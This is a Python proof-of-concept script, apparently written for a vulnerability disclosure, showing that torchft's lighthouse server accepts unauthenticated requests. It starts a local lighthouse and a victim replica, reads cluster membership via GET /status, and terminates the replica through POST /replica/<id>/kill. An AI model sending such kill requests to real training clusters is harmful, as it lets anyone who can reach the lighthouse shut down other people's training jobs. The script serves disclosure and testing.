"""torchft has no authentication: any local process that can reach the lighthouse can read
the membership (GET /status) and kill a replica (POST /replica/<replica_id>/kill -> the
lighthouse calls that replica's ManagerServer Kill RPC -> std::process::exit(1)).
Everything here is bound to 127.0.0.1."""
import json, os, subprocess, sys, time, urllib.request
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import ftloop  # noqa: F401  (patches)
from torchft._torchft import LighthouseServer
lh = LighthouseServer(bind="127.0.0.1:0", min_replicas=1, join_timeout_ms=100)
addr = "http://127.0.0.1:" + lh.address().rsplit(":", 1)[1]
child = r'''
import sys, os, time, json
from datetime import timedelta
sys.path.insert(0, os.getcwd())
import ftloop, torch
torch.set_num_threads(1)
from torchft import Manager, ProcessGroupGloo
store, port = ftloop.loopback_store(0, True, 1)
w = torch.ones(4)
m = Manager(pg=ProcessGroupGloo(timeout=timedelta(seconds=5)), load_state_dict=lambda s: None,
            state_dict=lambda: {"w": w}, min_replica_size=1, store_addr="127.0.0.1", store_port=port,
            rank=0, world_size=1, lighthouse_addr=sys.argv[1], replica_id="victim", hostname="127.0.0.1",
            checkpoint_transport=ftloop.LoopbackHTTPTransport(timedelta(seconds=5)))
m.start_quorum(); m.wait_quorum(); m.should_commit()
print(json.dumps({"replica_id": m._store.get("replica_id").decode()}), flush=True)
while True:
    m.start_quorum(); m.wait_quorum(); m.should_commit(); time.sleep(0.2)
'''
p = subprocess.Popen([sys.executable, "-c", child, addr], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL,
                     cwd=os.path.dirname(os.path.abspath(__file__)))
rid = json.loads(p.stdout.readline())["replica_id"]
status = urllib.request.urlopen(addr + "/status", timeout=5).read().decode()
print("GET /status (no credentials):", len(status), "bytes; names the replica:", rid in status,
      "; shows its manager address:", "127.0.0.1" in status)
t0 = time.time()
req = urllib.request.Request(f"{addr}/replica/{rid}/kill", method="POST")
try:
    print("POST /replica/<id>/kill ->", urllib.request.urlopen(req, timeout=10).status)
except Exception as e:
    print("POST /replica/<id>/kill ->", type(e).__name__, e)
rc = p.wait(timeout=10)
print(f"replica process exited rc={rc} {time.time() - t0:.3f}s after the unauthenticated POST")
lh.shutdown()
